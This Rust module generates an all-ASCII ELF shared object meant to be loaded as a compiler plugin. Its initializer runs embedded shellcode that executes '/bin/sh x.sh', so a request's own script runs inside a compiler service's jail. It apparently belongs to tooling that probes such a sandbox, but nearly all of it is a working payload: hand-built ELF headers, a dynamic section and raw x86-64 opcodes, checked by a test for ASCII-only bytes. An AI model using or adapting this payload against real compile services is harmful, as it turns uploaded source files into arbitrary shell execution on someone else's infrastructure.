//! How a request runs code of its own inside the jail, on every compiler alike.
//!
//! The files of a request are text and not executable, but a plugin need not be: it is mapped. So it is a shared
//! object in which every byte is ASCII, and whose initializer becomes `/bin/sh x.sh`. GCC offers a shorter way too.

/// Where the dynamic section begins.
const DYNAMIC: u64 = 0x100;
/// Where the code begins: after six entries of the dynamic section.
const CODE: u64 = DYNAMIC + 6 * 16;
/// Where the empty string and symbol tables are.
const TABLES: u64 = 0x200;
/// Bytes of the whole object.
const SIZE: u64 = 0x240;

/// `execve("/bin/sh", {"/bin/sh", "x.sh"}, environ)`. The loader passes the environment in the third argument; the
/// strings are made on the stack, because every way to address them relatively needs a byte above 0x7f.
const BECOME_SHELL: &[u8] = b"\x68x.sh\x54\x59\x68/bin\x68/sh\0\x58\x31\x44\x24\x04\x54\x5f\x6a\0\x51\x57\x54\x5e\x6a\x3b\x58\x0f\x05";

/// The plugin, as the contents of a file of a request.
pub(super) fn plugin() -> String {
    let mut object = Vec::new();
    object.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    // A shared object for x86-64, with two program headers right behind this one.
    object.extend([3_u16, 62, 1, 0].map(u16::to_le_bytes).as_flattened());
    object.extend([0_u64, 64, 0].map(u64::to_le_bytes).as_flattened());
    object.extend([0_u16, 0, 64, 56, 2, 64, 0, 0].map(u16::to_le_bytes).as_flattened());
    header(&mut object, (1, 7), [0, 0, 0, SIZE, SIZE, 0x1000]);
    header(&mut object, (2, 6), [DYNAMIC, DYNAMIC, DYNAMIC, 96, 96, 8]);
    object.resize(usize::try_from(DYNAMIC).unwrap(), 0);
    // String table, symbol table, their sizes, the initializer, the end.
    for entry in [[5, TABLES], [6, TABLES], [10, 1], [11, 24], [12, CODE], [0, 0]] {
        object.extend(entry.map(u64::to_le_bytes).as_flattened());
    }
    object.extend_from_slice(BECOME_SHELL);
    object.resize(usize::try_from(SIZE).unwrap(), 0);
    String::from_utf8(object).unwrap()
}

/// One program header.
fn header(object: &mut Vec<u8>, (kind, flags): (u32, u32), numbers: [u64; 6]) {
    object.extend([kind, flags].map(u32::to_le_bytes).as_flattened());
    object.extend(numbers.map(u64::to_le_bytes).as_flattened());
}

#[test]
fn the_plugin_is_plain_ascii() {
    assert!(plugin().is_ascii());
}
